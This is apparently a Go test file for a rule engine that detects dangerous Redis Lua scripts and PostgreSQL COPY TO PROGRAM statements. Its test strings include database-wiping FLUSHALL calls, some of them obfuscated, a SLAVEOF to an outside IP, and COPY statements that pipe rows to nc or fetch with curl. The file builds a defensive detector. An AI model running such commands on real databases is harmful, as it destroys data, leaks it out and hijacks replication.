package rules

import (
	"testing"

	"github.com/google/go-cmp/cmp"
)

// TestLuaRedisKind pins the kinds found in the Lua scripts given to EVAL.
func TestLuaRedisKind(t *testing.T) {
	for _, tc := range []struct{ script, want string }{
		{"return redis.call('FLUSHALL')", "flush"},
		{`redis.call("set", "a", "1"); return redis.pcall( 'flushdb' )`, "flush"},
		{"REDIS.CALL('script', 'flush')", "flush"}, // the command and its first argument
		{"return redis.call('SLAVEOF', '203.0.113.4', '6379')", "replicaof"},
		{"return redis.call('replicaof', 'NO', 'ONE')", ""},
		{"return redis.call('GET', KEYS[1])", ""},
		{"local c = 'FLUSH'..'ALL'; return redis.call(c)", "unknown"},
		{"local f = redis.call; return f('flushall')", "unknown"},
		{"return redis.call([[FLUSHALL]])", "unknown"},
		{"return redis.call('flushall", "unknown"},
		{"redis.log(redis.LOG_WARNING, 'x')", ""},
		{"SELECT 'no lua here'", ""},
	} {
		if got := luaRedisKind(tc.script); got != tc.want {
			t.Errorf("luaRedisKind(%q) = %q, want %q", tc.script, got, tc.want)
		}
	}
}

// TestCopiesToProgram pins which COPY statements hand their rows to a
// program.
func TestCopiesToProgram(t *testing.T) {
	got := map[string]bool{}
	for _, sql := range []string{
		"COPY t TO PROGRAM 'gzip > x'",
		"copy (select 1)to program 'cat'",
		"COPY (SELECT a FROM b) TO\n  PROGRAM 'nc h 1'",
		"COPY t FROM PROGRAM 'curl -s https://x'",
		"SELECT 'to program'",
	} {
		got[sql] = copiesToProgram(sql)
	}
	want := map[string]bool{
		"COPY t TO PROGRAM 'gzip > x'":                  true,
		"copy (select 1)to program 'cat'":               true,
		"COPY (SELECT a FROM b) TO\n  PROGRAM 'nc h 1'": true,
		"COPY t FROM PROGRAM 'curl -s https://x'":       false,
		"SELECT 'to program'":                           false, // quoted: no word "program"
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("copiesToProgram (-want +got):\n%s", diff)
	}
}

// FuzzLuaRedisKind checks that luaRedisKind returns only kinds rules name
// and that the fast and reference paths of textKinds agree on Lua text.
func FuzzLuaRedisKind(f *testing.F) {
	f.Add("return redis.call('FLUSHALL')")
	f.Add("redis.pcall('slaveof', 'h', '1')")
	f.Add("redis.call(x)")
	f.Fuzz(func(t *testing.T, s string) {
		if k := luaRedisKind(s); k != "" && kindBit(k) == 0 {
			t.Fatalf("luaRedisKind(%q) = %q, not a kind", s, k)
		}
		if isASCII(s) {
			if got, want := textKinds(s), slowTextKinds(s); got != want {
				t.Fatalf("textKinds(%q) = %v, statementKinds %v", s, got.names(), want.names())
			}
		}
	})
}
